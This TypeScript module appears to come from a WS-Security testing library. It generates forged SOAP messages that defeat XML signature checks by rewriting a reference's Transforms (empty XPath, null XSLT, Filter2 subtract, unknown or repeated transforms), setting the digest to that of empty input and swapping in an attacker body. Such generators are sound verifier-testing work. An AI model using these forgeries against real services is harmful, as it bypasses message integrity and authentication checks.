import { child } from '@holdfast/soap';
import { CANONICALIZATION } from '../../canonical/canonicalize.js';
import { DS, ds, WSSE, XENC } from '../../namespaces.js';
import { type AttackFamily, EVIL } from './attack.js';
import { by, content, remove } from './edit.js';
import { resealed } from './reseal.js';
import { node, nodes, withoutId } from './secured-message.js';
import { unlisted } from './stripping.js';

const EMPTY_SHA1 = '2jmj7l5rSw0yVb/vlWAYkK/YBwk=';
const STR_TRANSFORM = 'http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform';

/** Transforms that make the digest speak of something else than the element that is named. */
export const transforms: AttackFamily = function* (message, options) {
  const { body } = message;
  const part = message.signed.find(({ element }) => element === body) ?? message.signed[0];
  const list = part && child(part.reference, ds('Transforms'));
  const value = part && child(part.reference, ds('DigestValue'));
  if (part === undefined || list === undefined || value === undefined) return;
  const at = message.signed.indexOf(part);
  const c14n = `<ds:Transform Algorithm="${CANONICALIZATION.exclusive}"/>`;
  const one = (algorithm: string, inner = ''): string =>
    `<ds:Transform Algorithm="${algorithm}">${inner}</ds:Transform>`;
  const xslt =
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"/></xsl:stylesheet>';
  const filter = (kind: string, what: string): string =>
    `<f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" Filter="${kind}">${what}</f:XPath>`;
  const tricks: readonly (readonly [string, string, string])[] = [
    [
      'xpath-nothing',
      'an XPath that selects nothing',
      one('http://www.w3.org/TR/1999/REC-xpath-19991116', '<ds:XPath>false()</ds:XPath>') + c14n,
    ],
    [
      'xpath-not-body',
      'an XPath that leaves the content of the Body out',
      one('http://www.w3.org/TR/1999/REC-xpath-19991116', '<ds:XPath>count(ancestor::node()) &lt; 3</ds:XPath>') + c14n,
    ],
    ['xslt', 'an XSLT that writes nothing', one('http://www.w3.org/TR/1999/REC-xslt-19991116', xslt) + c14n],
    [
      'filter2-subtract',
      'an XPath Filter 2 that takes everything away',
      one('http://www.w3.org/2002/06/xmldsig-filter2', filter('subtract', '//*')) + c14n,
    ],
    [
      'filter2-intersect',
      'an XPath Filter 2 that keeps nothing',
      one('http://www.w3.org/2002/06/xmldsig-filter2', filter('intersect', '/nothing')) + c14n,
    ],
    ['base64', 'Base64 decoding', one(`${DS}base64`)],
    ['enveloped-signature', 'the enveloped-signature transform', one(`${DS}enveloped-signature`) + c14n],
    ['decrypt', 'the decryption transform', one('http://www.w3.org/2002/07/decrypt#XML') + c14n],
    [
      'str-transform',
      'the STR-Transform, though it is no reference',
      one(
        STR_TRANSFORM,
        `<wsse:TransformationParameters xmlns:wsse="${WSSE}"><ds:CanonicalizationMethod Algorithm="${CANONICALIZATION.exclusive}"/></wsse:TransformationParameters>`,
      ),
    ],
    [
      'attachment',
      'the transform for content of attachments',
      one('http://docs.oasis-open.org/wss/oasis-wss-SwAProfile-1.1#Attachment-Content-Signature-Transform'),
    ],
    ['unknown', 'an unknown transform', one('urn:attacker:transform') + c14n],
    ['empty-algorithm', 'a transform without a name', one('') + c14n],
    ['without-algorithm', 'a transform that names no algorithm', '<ds:Transform/>'],
    ['other-element', 'a transform of another namespace', '<x:Transform xmlns:x="urn:attacker" Algorithm="urn:x"/>'],
    ['xenc-algorithm', 'a cipher as a transform', one(`${XENC}aes256-cbc`) + c14n],
    ['hundred', 'a hundred transforms', c14n.repeat(100)],
    ['empty-list', 'no transform in the list', ''],
  ];
  const evil = {
    ...withoutId(part.element),
    attributes: part.element.attributes,
    children: nodes(options.body ?? EVIL),
  };
  for (const [what, about, inner] of tricks) {
    const changed = node(`<ds:Transforms xmlns:ds="${DS}">${inner}</ds:Transforms>`);
    yield {
      name: `transforms/${what}`,
      about: `The reference to the ${part.element.local} has ${about}; the part is forged and its digest that of nothing.`,
      result: resealed(
        message.with(
          [list, by(changed)],
          [value, content(EMPTY_SHA1)],
          [part.element, by(evil)],
          ...unlisted(message, part.element),
        ),
        options,
        [at],
      ),
    };
    if (what === 'hundred' || what === 'unknown' || what === 'without-algorithm') {
      yield {
        name: `transforms/${what}-beside`,
        about: `The reference to the ${part.element.local} has ${about}, and nothing is forged.`,
        result: resealed(message.with([list, by(changed)]), options),
      };
    }
  }
  yield {
    name: 'transforms/none',
    about: 'A reference has no Transforms at all, its digest is that of nothing and the part is forged.',
    result: resealed(
      message.with(
        [list, remove],
        [value, content(EMPTY_SHA1)],
        [part.element, by(evil)],
        ...unlisted(message, part.element),
      ),
      options,
      [at],
    ),
  };
  yield {
    name: 'transforms/two-lists',
    about: 'A reference has two lists of Transforms.',
    result: resealed(message.with([list, (of) => [of, of]]), options),
  };
};
